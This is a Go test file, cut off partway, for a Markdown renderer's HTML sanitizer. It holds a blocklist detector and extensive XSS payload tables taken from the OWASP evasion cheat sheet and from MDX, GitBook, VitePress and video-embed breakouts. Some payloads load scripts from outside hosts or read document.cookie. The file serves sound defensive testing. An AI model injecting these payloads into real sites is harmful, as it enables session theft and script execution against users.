package markdown

import (
	"bytes"
	"fmt"
	"net/url"
	"path"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"kb/builder/theme"
	"kb/themes"
)

// scriptCapable returns the first construct of rendered HTML that a
// browser could run script from, or "". It is a blocklist written
// independently of the sanitizer's allowlist, so that the two check each
// other: elements that run or load code or change where the page's URLs
// and forms go, event-handler attributes, and URL attributes with a
// script-capable scheme (javascript:, vbscript:, file:, data: other than a
// raster image).
func scriptCapable(b []byte) string {
	z := html.NewTokenizer(bytes.NewReader(b))
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			return ""
		case html.CommentToken, html.DoctypeToken:
			return "comment or doctype " + string(z.Raw())
		case html.StartTagToken, html.SelfClosingTagToken, html.EndTagToken:
		default:
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "script", "style", "iframe", "frame", "frameset", "object", "embed",
			"applet", "base", "form", "button", "meta", "link", "svg", "math",
			"template", "noscript", "textarea", "xmp", "plaintext", "title",
			"noembed", "noframes", "param", "body", "html":
			return "element <" + tok.Data + ">"
		}
		if strings.ContainsAny(tok.Data, "<>\"'/=") {
			return "odd element name " + tok.Data
		}
		for _, a := range tok.Attr {
			key := strings.ToLower(a.Key)
			switch {
			case strings.HasPrefix(key, "on"), key == "srcdoc", key == "formaction", key == "action",
				key == "xlink:href", key == "background", key == "dynsrc", key == "lowsrc",
				key == "data", key == "codebase", key == "http-equiv":
				return fmt.Sprintf("attribute %s=%q on <%s>", key, a.Val, tok.Data)
			case key == "style" && (strings.Contains(strings.ToLower(a.Val), "url(") ||
				strings.Contains(strings.ToLower(a.Val), "expression")):
				return fmt.Sprintf("style %q on <%s>", a.Val, tok.Data)
			case key == "href" || key == "src" || key == "cite" || key == "poster":
				if !safeURL(a.Val) {
					return fmt.Sprintf("URL %s=%q on <%s>", key, a.Val, tok.Data)
				}
			case key == "srcset":
				// Every word of a srcset that is not a descriptor is a URL
				// (a data: URL's comma included: it has no space).
				for _, w := range strings.Fields(a.Val) {
					if !safeURL(strings.Trim(w, ",")) {
						return fmt.Sprintf("URL %q in srcset on <%s>", w, tok.Data)
					}
				}
			}
		}
	}
}

var urlScheme = regexp.MustCompile(`^([a-z][a-z0-9+.-]*):`)

func safeURL(v string) bool {
	// A browser ignores whitespace and controls inside a scheme.
	s := strings.Map(func(r rune) rune {
		if r <= ' ' || r == 0x7f {
			return -1
		}
		return r
	}, strings.ToLower(v))
	u, err := url.Parse(s)
	if err != nil {
		// A browser reads a scheme only as a letter, then letters,
		// digits, "+", "-" or ".", then a colon (":" alone is a path).
		m := urlScheme.FindStringSubmatch(s)
		if m == nil {
			return true
		}
		u = &url.URL{Scheme: m[1], Opaque: s[len(m[0]):]}
	}
	switch u.Scheme {
	case "javascript", "vbscript", "livescript", "file":
		return false
	case "data":
		return rasterImage.MatchString(u.Opaque)
	}
	return true
}

// xssCases are the bypasses of the old blocklist and a representative part
// of the OWASP XSS filter evasion cheat sheet, as raw HTML in Markdown.
var xssCases = []struct {
	name string
	src  string
	warn string // a warning must contain this; "" when Markdown reads the input as text, not HTML
}{
	{"split script", `<div><scr<script></script>ipt src="//evil.example/x.js"></scr<script></script>ipt></div>`, "<scr<script>"},
	{"split iframe", `<div><ifr<iframe></iframe>ame srcdoc="<script>alert(1)</script>"></ifr<iframe></iframe>ame></div>`, "<ifr<iframe>"},
	{"split style", `<div><sty<style></style>le>*{display:none}</sty<style></style>le></div>`, "<sty<style>"},
	{"split script inline", `Text <scr<script></script>ipt>alert(1)</scr<script></script>ipt> more.`, "<script>"},
	{"details ontoggle", `<details open ontoggle="alert(1)"><summary>x</summary></details>`, "ontoggle"},
	{"img onerror", `<img src=x onerror=alert(1)>`, "onerror"},
	{"svg onload", `<svg onload=alert(1)>`, "<svg>"},
	{"svg slash onload", `<svg/onload=alert('XSS')>`, ""},
	{"javascript href", `<a href="javascript:alert(1)">x</a>`, `href "javascript:alert(1)"`},
	{"base href", `<base href="https://evil.example/">`, "<base>"},
	{"form action", `<form action="https://evil.example/"><input name=q></form>`, "<form>"},
	{"script src", `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`, "<script>"},
	{"polyglot", "<div>javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'></div>", "<svg>"},
	{"img javascript", `<IMG SRC="javascript:alert('XSS');">`, "javascript:"},
	{"img no quotes", `<IMG SRC=javascript:alert('XSS')>`, ""},
	{"img case", `<IMG SRC=JaVaScRiPt:alert('XSS')>`, ""},
	{"img entities in url", `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`, "javascript:"},
	{"img grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", ""},
	{"a onmouseover", `<a onmouseover="alert(document.cookie)">xxs link</a>`, "onmouseover"},
	{"malformed img", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`, ""},
	{"fromCharCode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`, "javascript:"},
	{"hash onmouseover", `<IMG SRC=# onmouseover="alert('xxs')">`, "onmouseover"},
	{"empty src onmouseover", `<IMG SRC= onmouseover="alert('xxs')">`, ""},
	{"no src onmouseover", `<IMG onmouseover="alert('xxs')">`, "onmouseover"},
	{"onerror fromCharCode", `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`, "onerror"},
	{"onerror entities", `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`, "onerror"},
	{"decimal entities", `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`, "javascript:"},
	{"decimal no semicolons", `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`, "javascript:"},
	{"hex entities", `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`, "javascript:"},
	{"embedded tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">", "<img>"},
	{"encoded tab", `<IMG SRC="jav&#x09;ascript:alert('XSS');">`, "<img>"},
	{"encoded newline", `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`, "<img>"},
	{"encoded carriage return", `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`, "<img>"},
	{"leading spaces and meta", `<IMG SRC=" &#14;  javascript:alert('XSS');">`, "<img>"},
	{"non-alpha separator", `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`, ""},
	{"body onload junk", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", "<body>"},
	{"extraneous brackets", `<<SCRIPT>alert("XSS");//\<</SCRIPT>`, "<script>"},
	{"no closing script", `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`, ""},
	{"protocol relative script", `<SCRIPT SRC=//xss.rocks/.j>`, "<script>"},
	{"half open iframe", `<iframe src=http://xss.rocks/scriptlet.html <`, ""},
	{"end title", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`, "<script>"},
	{"input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, "<input>"},
	{"body background", `<BODY BACKGROUND="javascript:alert('XSS')">`, "<body>"},
	{"img dynsrc", `<IMG DYNSRC="javascript:alert('XSS')">`, "<img>"},
	{"img lowsrc", `<IMG LOWSRC="javascript:alert('XSS')">`, "<img>"},
	{"list-style-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`, "<style>"},
	{"body onload", `<BODY ONLOAD=alert('XSS')>`, "<body>"},
	{"bgsound", `<BGSOUND SRC="javascript:alert('XSS');">`, "<bgsound>"},
	{"link stylesheet", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, "<link>"},
	{"meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`, "<meta>"},
	{"meta refresh data", `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`, "<meta>"},
	{"iframe javascript", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`, "<iframe>"},
	{"iframe onmouseover", `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`, "<iframe>"},
	{"player src breakout", `<iframe src="https://www.youtube.com/embed/x\"onload=alert(1)//"></iframe>`, "<iframe>"},
	{"player javascript src", `<iframe src="javascript://www.youtube.com/embed/7149L3xPmSE%0Aalert(1)"></iframe>`, "<iframe>"},
	{"frameset", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`, "<frameset>"},
	{"table background", `<TABLE BACKGROUND="javascript:alert('XSS')">`, "background"},
	{"td background", `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`, "background"},
	{"div background-image", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`, "style"},
	{"div expression", `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`, "style"},
	{"img style expression", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`, "<img>"},
	{"base javascript", `<BASE HREF="javascript:alert('XSS');//">`, "<base>"},
	{"object scriptlet", `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`, "<object>"},
	{"embed svg", `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">`, "<embed>"},
	{"img svg data", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, "data:image/svg+xml"},
	{"a data html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, "data:text/html"},
	{"colon entity", `<a href="jAvAsCrIpT&colon;alert(1)">X</a>`, "<a>"},
	{"vbscript", `<img src="vbscript:msgbox(1)">`, "vbscript:"},
	{"conditional comment", `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`, ""},
	{"xss style behavior", `<XSS STYLE="behavior: url(xss.htc);">`, "<xss>"},
	{"mutation math style", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, "<math>"},
	{"mutation noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, "<noscript>"},
	{"mutation svg cdata", `<svg><![CDATA[</p><img src=x onerror=alert(1)>]]></svg>`, "onerror"},
	{"button formaction", `<form><button formaction=javascript:alert(1)>X</button></form>`, "<button>"},
	{"template", `<template><img src=x onerror=alert(1)></template>`, "<template>"},
	{"textarea breakout", `<textarea></textarea><img src=x onerror=alert(1)>`, "onerror"},
	{"uppercase event", `<div ONMOUSEOVER="alert(1)">x</div>`, "onmouseover"},
	{"srcset", `<img src="/a.png" srcset="javascript:alert(1) 1x">`, "srcset"},
	{"srcset second candidate", `<img src="/a.png" srcset="/a.png 1x, javascript:alert(1) 2x">`, "srcset"},
	{"srcset tab in scheme", `<img src="/a.png" srcset="jav&#x09;ascript:alert(1) 2x">`, "srcset"},
	{"srcset svg data", `<img src="/a.png" srcset="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+ 2x">`, "srcset"},
	{"picture srcset javascript", `<picture><source srcset="javascript:alert(1)" media="(prefers-color-scheme: dark)"><img src="/a.png" alt=""></picture>`, "srcset"},
	{"srcset entry breakout", `<picture><source srcset="/b.png 2x&quot; onerror=&quot;alert(1)"><img src="/a.png" srcset='/a.png" onerror="alert(1)'></picture>`, "srcset"},
	{"source media markup", `<picture><source srcset="/d.png" media="<img src=x onerror=alert(1)>"><img src="/a.png"></picture>`, "media"},
	{"source sizes breakout", `<picture><source srcset="/d.png 480w" sizes="</picture><script>alert(1)</script>"><img src="/a.png"></picture>`, "sizes"},
	{"source src", `<picture><source src="javascript:alert(1)"><img src="/a.png"></picture>`, "javascript:"},
	{"ping", `<a href="https://example.com/" ping="https://evil.example/">x</a>`, "ping"},
	{"alert title", `> [!NOTE] <img src=x onerror=alert(1)>`, "onerror"},
	{"directive label", `:::tip[<script>alert(1)</script>]`, "<script>"},
	{"directive title", `:::info <a href="javascript:alert(1)">x</a>`, "javascript:"},
	{"admonition title", `!!! note "<img src=x onerror=alert(1)>"`, "onerror"},
	{"collapsible title", `???+ tip "<a href="javascript:alert(1)">x</a>"`, "javascript:"},
	{"admonition kind", `!!! note"><script>alert(1)</script> "x"`, "<script>"},
	{"content tab label", `=== "<img src=x onerror=alert(1)>"`, "onerror"},
	{"attribute list event handler", `[x](https://example.com/){ onclick="alert(1)" }`, "onclick"},
	{"attribute list beside a button", `[x](https://example.com/){ .md-button onmouseover=alert(1) }`, "onmouseover"},
	{"attribute list style", `[x](https://example.com/){ style="background:url(javascript:alert(1))" }`, "style"},
	{"attribute list href", `[x](https://example.com/){ href="javascript:alert(1)" }`, "javascript:"},
	{"attribute list on an image", `![i](/a.png){ onerror=alert(1) }`, "onerror"},
	{"attribute list on an icon", `:material-check:{ onload=alert(1) }`, ""},
	{"video poster javascript", `<video controls poster="javascript:alert(1)"></video>`, "poster"},
	{"video source javascript", `<video controls><source src="javascript:alert(1)" type="video/mp4"></video>`, "javascript:"},
	{"track javascript", `<video controls src="/a.mp4"><track kind="captions" src=" javascript:alert(1)"></video>`, "javascript:"},
	{"audio onerror", `<audio src=x onerror=alert(1)></audio>`, "onerror"},
	{"video event", `<video src="/a.mp4" onloadstart="alert(1)" controls></video>`, "onloadstart"},
	{"video src data html", `<video src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" controls></video>`, "data:text/html"},
	{"media image javascript", `![x](javascript:alert(1).mp4)`, ""},
	{"media image breakout", `![x" onerror="alert(1)](/a.mp4 "t\" onload=\"alert(1)")`, ""},
}

func TestRawHTMLAllowlistRemovesScript(t *testing.T) {
	r := New(Options{Unsafe: true})
	for _, tc := range xssCases {
		t.Run(tc.name, func(t *testing.T) {
			for _, faq := range []bool{false, true} {
				// The case as a block, inline in a paragraph, and in an FAQ answer.
				src := "Intro.\n\n## Question?\n\n" + tc.src + "\n\nText " + tc.src + " after.\n"
				res := r.Render(Document{Source: []byte(src), File: "content/en/x.md", Line: 4, FAQ: faq})
				html := res.HTML
				for _, q := range res.Questions {
					html = append(append(html, '\n'), q.HTML...)
				}
				if bad := scriptCapable(html); bad != "" {
					t.Fatalf("faq=%v: %s survives in\n%s", faq, bad, html)
				}
				if tc.warn == "" {
					continue
				}
				found := false
				for _, d := range res.Diagnostics {
					if strings.Contains(strings.ToLower(d.Msg), strings.ToLower(tc.warn)) {
						found = true
						if d.File != "content/en/x.md" || d.Line != 8 && d.Line != 10 || d.Col < 1 {
							t.Errorf("warning %v: want content/en/x.md:8 or :10", d)
						}
					}
				}
				if !found {
					t.Errorf("faq=%v: no warning mentioning %q; got %v", faq, tc.warn, res.Diagnostics)
				}
			}
		})
	}
}

// TestRawHTMLAllowlistKeeps checks that what writers use and what kb's own
// Markdown emits comes out of the sanitizer as it went in.
func TestRawHTMLAllowlistKeeps(t *testing.T) {
	src := "# Title {#top}\n\n" +
		"## Πώς επιστρέφω; {.lead}\n\n" +
		"<div class=\"note warning mb-[15px]\" id=\"n1\" dir=\"rtl\" lang=\"ar\" role=\"note\" aria-label=\"ملاحظة\">نص</div>\n\n" +
		"<details open><summary id=\"more\">More</summary>\n\nBody.\n\n</details>\n\n" +
		"| a | b |\n|:--|--:|\n| [x](https://example.com/ \"t\") | ![i](/img/a.png) |\n\n" +
		"- [x] done\n\n" +
		"```go\nx := 1\n```\n\n" +
		"<a href=\"#top\">top</a> <a href=\"../other/\" target=\"_blank\" rel=\"noopener\">rel</a> <a href=\"tel:+301234\">call</a> <kbd>K</kbd> <sup>1</sup> <bdi>x</bdi>\n\n" +
		"<figure><img src=\"https://cdn.example.com/a.jpg\" alt=\"A\" width=\"10\" height=\"20\" loading=\"lazy\"><figcaption>A</figcaption></figure>\n\n" +
		"<ol start=\"3\" reversed><li value=\"5\">five</li></ol> <time datetime=\"2024-05-01\">May</time>\n\n![d](data:image/png;base64,iVBORw0KGgo=)\n\n" +
		"<video controls muted loop playsinline preload=\"none\" poster=\"/img/p.jpg\" width=\"640\"><source src=\"https://cdn.example.com/a.webm\" type=\"video/webm\"><track kind=\"subtitles\" src=\"/a.el.vtt\" srclang=\"el\" label=\"Ελληνικά\"></video>\n\n" +
		"![A clip](/media/clip.mp4)\n"
	res := New(Options{Unsafe: true}).Render(Document{Source: []byte(src), File: "x.md"})
	for _, d := range res.Diagnostics {
		t.Errorf("unexpected warning: %v", d)
	}
	for _, want := range []string{
		`<h1 id="top">Title</h1>`,
		`<h2 class="lead" id="πώς-επιστρέφω">Πώς επιστρέφω;</h2>`,
		`<div class="note warning mb-[15px]" id="n1" dir="rtl" lang="ar" role="note" aria-label="ملاحظة">نص</div>`,
		`<details open=""><summary id="more">More</summary>`,
		`<th align="left">a</th>`,
		`<a href="https://example.com/" title="t">x</a>`,
		`<img src="/img/a.png" alt="i">`,
		`<input checked="" disabled="" type="checkbox">`,
		`<pre dir="ltr"><code class="language-go">x := 1`,
		`<a href="#top">top</a> <a href="../other/" target="_blank" rel="noopener">rel</a> <a href="tel:+301234">call</a> <kbd>K</kbd> <sup>1</sup> <bdi>x</bdi>`,
		`<img src="https://cdn.example.com/a.jpg" alt="A" width="10" height="20" loading="lazy">`,
		`<ol start="3" reversed=""><li value="5">five</li></ol>`,
		`<time datetime="2024-05-01">May</time>`,
		`<img src="data:image/png;base64,iVBORw0KGgo=" alt="d">`,
		`<video controls="" muted="" loop="" playsinline="" preload="none" poster="/img/p.jpg" width="640"><source src="https://cdn.example.com/a.webm" type="video/webm"><track kind="subtitles" src="/a.el.vtt" srclang="el" label="Ελληνικά"></video>`,
		`<video class="media" src="/media/clip.mp4" controls="" preload="metadata" aria-label="A clip"><a href="/media/clip.mp4">A clip</a></video>`,
	} {
		if !bytes.Contains(res.HTML, []byte(want)) {
			t.Errorf("missing %s in\n%s", want, res.HTML)
		}
	}
}

// FuzzRawHTML renders arbitrary Markdown with raw HTML allowed, as an
// article and as an FAQ: whatever the input, no script-capable construct
// reaches the HTML.
func FuzzRawHTML(f *testing.F) {
	for _, tc := range xssCases {
		f.Add(tc.src, false)
	}
	f.Add("<div>\n\n## Q <img src=x onerror=alert(1)>?\n\n</div><script>", true)
	r := New(Options{Unsafe: true})
	f.Fuzz(func(t *testing.T, src string, faq bool) {
		res := r.Render(Document{Source: []byte(src), File: "f.md", FAQ: faq})
		if bad := scriptCapable(res.HTML); bad != "" {
			t.Fatalf("%s in %s", bad, res.HTML)
		}
		for _, q := range res.Questions {
			if bad := scriptCapable(q.HTML); bad != "" {
				t.Fatalf("%s in answer %s", bad, q.HTML)
			}
		}
	})
}

// mdxCases are components of an MDX page that carry script in their
// attributes or children: what the default theme's component templates
// output must not run it, with raw HTML off or on.
var mdxCases = []struct{ name, src string }{
	{"event handler expression", `<Card title="x" onClick={() => alert(1)}>Body</Card>`},
	{"event handler string", `<Card title="x" onclick="alert(1)">Body</Card>`},
	{"script in a title", "<Aside title=\"<script>alert(1)</script>\">\nBody\n</Aside>"},
	{"script in a one-line aside", "<Aside type=\"tip\"><script>alert(1)</script></Aside>"},
	{"script in a card title", `<Card title="<img src=x onerror=alert(1)>">Body</Card>`},
	{"attribute breakout", `<TabItem label={"\" onmouseover=\"alert(1)"}>Body</TabItem>`},
	{"javascript link card", `<LinkCard title="x" href="javascript:alert(1)" />`},
	{"javascript link button", `<LinkButton href="javascript:alert(1)">Go</LinkButton>`},
	{"badge markup", `Text <Badge text="<img src=x onerror=alert(1)>" /> after.`},
	{"script child", "<Tabs>\n<TabItem label=\"a\">\n<script>alert(1)</script>\n</TabItem>\n</Tabs>"},
	{"unknown component's raw child", "<Preview>\n<img src=x onerror=alert(1)>\n</Preview>"},
	{"spread props", `<Card {...{onClick: "alert(1)"}} title="x">Body</Card>`},
	{"content tab label breakout", "=== \"\\\" onmouseover=\\\"alert(1)\"\n    Body"},
	{"content tab label markup", "=== \"<img src=x onerror=alert(1)>\"\n    <script>alert(1)</script>"},
}

// withDefaultTheme returns renderers with the default theme's shortcode
// templates, raw HTML off and on.
func withDefaultTheme(t *testing.T) []*Renderer {
	t.Helper()
	th, ds := theme.Load(theme.Layer{FS: themes.Default(), Prefix: "themes/default"})
	if len(ds) > 0 {
		t.Fatal(ds)
	}
	return []*Renderer{New(Options{Shortcodes: th.Shortcodes()}), New(Options{Unsafe: true, Shortcodes: th.Shortcodes()})}
}

func TestMDXComponentsRunNoScript(t *testing.T) {
	runNoScript(t, "content/en/x.mdx", "import { Card } from '@astrojs/starlight/components';\n\n", mdxCases)
}

// runNoScript renders each case in a page named file, after head, with
// the default theme, raw HTML off and on: nothing of it may run script,
// and the text after it stays.
func runNoScript(t *testing.T, file, head string, cases []struct{ name, src string }) {
	for _, r := range withDefaultTheme(t) {
		unsafe := r.opts.Unsafe
		for _, tc := range cases {
			t.Run(fmt.Sprintf("%s unsafe=%v", tc.name, unsafe), func(t *testing.T) {
				rendersNoScript(t, r, head+"Intro.\n\n"+tc.src+"\n\nAfter.\n", file)
			})
		}
	}
}

// rendersNoScript renders src, a component or block between "Intro." and
// "After.", and checks that nothing in it can run script and that the
// text after it is still there; it returns the HTML.
func rendersNoScript(t *testing.T, r *Renderer, src, file string) []byte {
	t.Helper()
	res := r.Render(Document{Source: []byte(src), File: file, Line: 4})
	// With raw HTML off, kb's own marker of what it left out is the one comment.
	out := bytes.ReplaceAll(res.HTML, []byte("<!-- raw HTML omitted -->"), nil)
	if bad := scriptCapable(out); bad != "" {
		t.Fatalf("%s survives in\n%s", bad, res.HTML)
	}
	if !bytes.Contains(res.HTML, []byte("After.")) {
		t.Errorf("the page lost its text after the component:\n%s", res.HTML)
	}
	return out
}

// playerCases are iframes of video players, or what looks like one, that
// carry script or markup in their attributes: only a checked id and the
// title, escaped, may reach the link the youtube or vimeo template makes.
var playerCases = []struct{ name, src string }{
	{"src breakout", `<iframe src="https://www.youtube.com/embed/x\"onload=alert(1)//"></iframe>`},
	{"src breakout single quotes", `<iframe src='https://player.vimeo.com/video/1'onload='alert(1)'></iframe>`},
	{"javascript src", `<iframe src="javascript:alert(1)//www.youtube.com/embed/7149L3xPmSE"></iframe>`},
	{"javascript src with player host", `<iframe src="javascript://www.youtube.com/embed/7149L3xPmSE%0Aalert(1)"></iframe>`},
	{"markup in title", `<iframe src="https://www.youtube.com/embed/7149L3xPmSE" title="<img src=x onerror=alert(1)>"></iframe>`},
	{"title breakout", `<iframe src="https://player.vimeo.com/video/76979871" title='"><script>alert(1)</script>'></iframe>`},
	{"ampersand in id", `<iframe src="https://www.youtube.com/embed/7149L&amp;x=1"></iframe>`},
	{"slash in id", `<iframe src="https://www.youtube.com/embed/../../x/7149L3xPmSE"></iframe>`},
	{"encoded slash in id", `<iframe src="https://player.vimeo.com/video/1%2F..%2Fx"></iframe>`},
	{"start breakout", `<iframe src="https://www.youtube.com/embed/7149L3xPmSE?start=1%22%3E%3Cscript%3Ealert(1)%3C/script%3E"></iframe>`},
	{"start in minutes breakout", `<iframe src="https://www.youtube.com/embed/7149L3xPmSE?start=1m%22%3E%3Cscript%3Ealert(1)%3C/script%3Es"></iframe>`},
	{"vimeo hash breakout", `<iframe src="https://player.vimeo.com/video/1?h=abcdef%22%3E%3Cscript%3Ealert(1)%3C/script%3E"></iframe>`},
	{"playlist breakout", `<iframe src="https://www.youtube.com/embed/videoseries?list=PLabcdefghij%22onload=alert(1)"></iframe>`},
	{"script as fallback", `<iframe src="https://www.youtube.com/embed/7149L3xPmSE"><script>alert(1)</script></iframe>`},
	{"player host as user", `<iframe src="https://www.youtube.com@evil.example/embed/7149L3xPmSE"></iframe>`},
}

// videoLink is the only link a player may become.
var videoLink = regexp.MustCompile(`^https://(www\.youtube\.com/watch\?v=[A-Za-z0-9_-]{11}(&t=[0-9]+)?|www\.youtube\.com/playlist\?list=[A-Za-z0-9_-]{10,64}|vimeo\.com/[0-9]+(/[0-9a-f]{6,20})?)$`)

func TestVideoPlayersRunNoScript(t *testing.T) {
	for _, r := range withDefaultTheme(t) {
		unsafe := r.opts.Unsafe
		for _, file := range []string{"content/en/x.md", "content/en/x.mdx"} {
			for _, tc := range playerCases {
				t.Run(fmt.Sprintf("%s %s unsafe=%v", tc.name, file, unsafe), func(t *testing.T) {
					// As a block, and inline in a paragraph.
					src := "Intro.\n\n" + tc.src + "\n\nText " + tc.src + " after.\n"
					res := r.Render(Document{Source: []byte(src), File: file, Line: 4})
					out := bytes.ReplaceAll(res.HTML, []byte("<!-- raw HTML omitted -->"), nil)
					if bad := scriptCapable(out); bad != "" {
						t.Fatalf("%s survives in\n%s", bad, res.HTML)
					}
					z := html.NewTokenizer(bytes.NewReader(out))
					for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
						tok := z.Token()
						if tok.Type != html.StartTagToken || tok.Data != "a" {
							continue
						}
						for _, a := range tok.Attr {
							if a.Key != "href" || !videoLink.MatchString(a.Val) {
								t.Errorf("attribute %s=%q on a link in\n%s", a.Key, a.Val, res.HTML)
							}
						}
					}
					if bytes.Contains(out, []byte("<img")) || bytes.Contains(out, []byte("<script")) {
						t.Errorf("markup of an attribute reached the page:\n%s", res.HTML)
					}
				})
			}
		}
	}
}

// gitbookCases are GitBook block tags whose arguments carry script or
// markup: addresses with a script scheme, titles that try to end their
// quotes or the shortcode they become.
var gitbookCases = []struct{ name, src string }{
	{"javascript embed", `{% embed url="javascript:alert(1)" %}`},
	{"javascript embed with a caption", "{% embed url=\"JaVaScRiPt:alert(1)\" %}\nCaption\n{% endembed %}"},
	{"data embed", `{% embed url="data:text/html,<script>alert(1)</script>" %}`},
	{"embed breakout", `{% embed url="https://example.com/"><script>alert(1)</script>" %}`},
	{"video embed breakout", `{% embed url="https://youtu.be/7149L3xPmSE\"onload=alert(1)//" %}`},
	{"javascript file", `{% file src="javascript:alert(1)" %}`},
	{"file breakout", `{% file src="x.pdf)<script>alert(1)</script>" %}`},
	{"javascript content-ref", "{% content-ref url=\"javascript:alert(1)\" %}\n[x](javascript:alert(1))\n{% endcontent-ref %}"},
	{"content-ref title breakout", "{% content-ref url=\"x.md\" %}\n[\"><img src=x onerror=alert(1)>](x.md)\n{% endcontent-ref %}"},
	{"tab title breakout", "{% tabs %}\n{% tab title=\"\\\"><script>alert(1)</script>\" %}\nA.\n{% endtab %}\n{% endtabs %}"},
	{"tab title ends the shortcode", "{% tabs %}\n{% tab title=\"x >}}<script>alert(1)</script>\" %}\nA.\n{% endtab %}\n{% endtabs %}"},
	{"code title breakout", "{% code title=\"</figcaption><script>alert(1)</script>\" %}\n```\nx\n```\n{% endcode %}"},
	{"update date breakout", "{% updates %}\n{% update date='\"><script>alert(1)</script>' %}\nA.\n{% endupdate %}\n{% endupdates %}"},
	{"hint style breakout", "{% hint style=\"info\\\" onmouseover=alert(1) x=\\\"\" %}\nA.\n{% endhint %}"},
}

func TestGitbookBlocksRunNoScript(t *testing.T) {
	for _, r := range withDefaultTheme(t) {
		unsafe := r.opts.Unsafe
		for _, tc := range gitbookCases {
			t.Run(fmt.Sprintf("%s unsafe=%v", tc.name, unsafe), func(t *testing.T) {
				out := rendersNoScript(t, r, "Intro.\n\n"+tc.src+"\n\nAfter.\n", "content/en/x.md")
				if bytes.Contains(out, []byte("<img")) || bytes.Contains(out, []byte("<script")) {
					t.Errorf("markup of an argument reached the page:\n%s", out)
				}
			})
		}
	}
}

// vitepressCases are a VitePress page's components and containers that
// carry script in their attributes, labels or titles: what the default
// theme's templates output must not run it, with raw HTML off or on.
var vitepressCases = []struct{ name, src string }{
	{"badge type breakout", `Text <Badge type="tip&quot; onmouseover=&quot;alert(1)" text="x" /> after.`},
	{"badge type as attribute", `Text <Badge type='" onmouseover="alert(1)' text="x" /> after.`},
	{"badge markup", `Text <Badge type="tip" text="<img src=x onerror=alert(1)>" /> after.`},
	{"badge script child", `Text <Badge type="tip"><script>alert(1)</script></Badge> after.`},
	{"code group label markup", "::: code-group\n\n```js [<img src=x onerror=alert(1)>]\nx\n```\n\n:::"},
	{"code group label breakout", "::: code-group\n\n```js [\" onmouseover=\"alert(1)]\nx\n```\n\n:::"},
	{"details title markup", "::: details <img src=x onerror=alert(1)>\nBody\n:::"},
	{"raw container script", "::: raw\n<script>alert(1)</script>\n:::"},
	{"script setup ends the line", "<script setup>alert(1)</script><img src=x onerror=alert(1)>"},
	{"style then script", "<style>\n</style><script>alert(1)</script>\n\n<script>alert(1)</script>"},
}

func TestVitePressPagesRunNoScript(t *testing.T) {
	runNoScript(t, "content/en/x.md", "", vitepressCases)
}

// An included file's text is the page's own: whatever it holds goes
// through the sanitizer, with raw HTML off or on, and includes of an
// include's name (a crafted path, a file that comes round again) stop.
func TestIncludesRunNoScript(t *testing.T) {
	files := map[string]string{
